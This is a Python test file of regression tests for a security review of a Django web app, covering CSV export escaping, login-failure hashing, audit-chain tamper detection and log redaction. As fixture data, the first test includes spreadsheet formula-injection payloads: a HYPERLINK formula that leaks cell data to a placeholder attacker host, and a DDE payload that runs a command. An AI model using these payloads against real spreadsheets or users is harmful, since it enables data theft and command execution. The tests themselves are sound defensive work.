"""Regression tests for the findings of the first security review."""

from __future__ import annotations

import csv
import hashlib
import io

import pytest
from django.db import connection
from django.utils import timezone

from tipwatch.web import audit
from tipwatch.web.ads.models import Ad
from tipwatch.web.assess.models import ReviewDecision
from tipwatch.web.assess.services import rescore
from tipwatch.web.audit.models import AuditChainHead, AuditEvent
from tipwatch.web.core.logging import redact
from web.factories import PASSWORD, PHONE, item, make_user, store

pytestmark = pytest.mark.django_db


def test_review_csv_export_neutralises_spreadsheet_formulas(client, org_a, django_user_model):
    user = make_user(django_user_model, org_a, "analyst")
    store(org_a, [item("x1", '=HYPERLINK("http://evil.example/?"&A2,"click")', title="+cmd|' /C calc'!A0")])
    rescore(org_a, stale_only=False)
    ad = Ad.objects.get(organisation=org_a, ext_id="x1")
    a = ad.assessment
    ReviewDecision.objects.create(
        organisation=org_a,
        ad=ad,
        score=a.score,
        band=a.band,
        catalogue_version=a.catalogue_version,
        decision="dismiss",
        reason="other",
        note="@SUM(1+1)",
        user=user,
        decided_at=timezone.now(),
    )
    client.force_login(user)
    body = client.get("/review/export.csv").content.decode()
    rows = list(csv.DictReader(io.StringIO(body)))
    row = next(
        r for r in rows if r.get("id") == "x1" or r.get("ext_id") == "x1" or "HYPERLINK" in r.get("body", "")
    )
    for value in row.values():
        assert not value or value[0] not in "=+-@", value
    assert row["body"].startswith("'=HYPERLINK")


def test_caseworker_dashboard_shows_no_contacts_or_runs(client, org_a, django_user_model):
    store(org_a, [item("c1", "call (929) 555-0147", entities=[("phone", PHONE, "(929) 555-0147")])])
    client.force_login(make_user(django_user_model, org_a, "caseworker"))
    page = client.get("/").content.decode()
    assert PHONE not in page
    assert 'href="/ads/"' not in page


def test_failed_login_digest_is_keyed_not_a_plain_hash(client, org_a, django_user_model):
    make_user(django_user_model, org_a, "analyst", username="someone")
    secret_typed_as_username = "Summer2024!secret"
    client.post("/accounts/login/", {"username": secret_typed_as_username, "password": PASSWORD})
    event = AuditEvent.objects.filter(action="auth.login_failed").latest("seq")
    stored = next(iter(event.detail.values()))
    plain = hashlib.sha256(secret_typed_as_username.casefold().encode()).hexdigest()[:16]
    assert stored != plain and len(stored) == 16


def test_verify_ignores_events_appended_while_it_walks(org_a, monkeypatch):
    for i in range(5):
        audit.record("test.event", organisation=org_a, n=i)
    real = AuditEvent.objects.filter

    def filter_and_append(*args, **kwargs):
        qs = real(*args, **kwargs)
        if "seq__gt" in kwargs and not getattr(filter_and_append, "done", False):
            filter_and_append.done = True
            audit.record("test.concurrent", organisation=org_a)
        return qs

    monkeypatch.setattr(AuditEvent.objects, "filter", filter_and_append)
    result = audit.verify()
    assert result.ok, result.reason


def test_verify_fails_when_the_tail_and_the_head_are_deleted(org_a):
    for i in range(5):
        audit.record("test.event", organisation=org_a, n=i)
    if connection.vendor == "postgresql":  # the append-only trigger must be lifted to simulate tampering
        with connection.cursor() as cur:
            cur.execute("ALTER TABLE audit_auditevent DISABLE TRIGGER USER")
            cur.execute("DELETE FROM audit_auditevent WHERE seq > 2")
            cur.execute("DELETE FROM audit_auditchainhead")
            cur.execute("ALTER TABLE audit_auditevent ENABLE TRIGGER USER")
    else:
        with connection.cursor() as cur:
            cur.execute("DELETE FROM audit_auditevent WHERE seq > 2")
            cur.execute("DELETE FROM audit_auditchainhead")
    assert not AuditChainHead.objects.exists()
    result = audit.verify()
    assert not result.ok and "head" in result.reason


def test_log_redaction_removes_whole_query_strings():
    assert "Brien" not in redact("GET /search/?q=O'Brien+anna@mail.test HTTP/1.1")
    assert "secret" not in redact("GET /search/?q=" + "x" * 9000 + "secret HTTP/1.1")
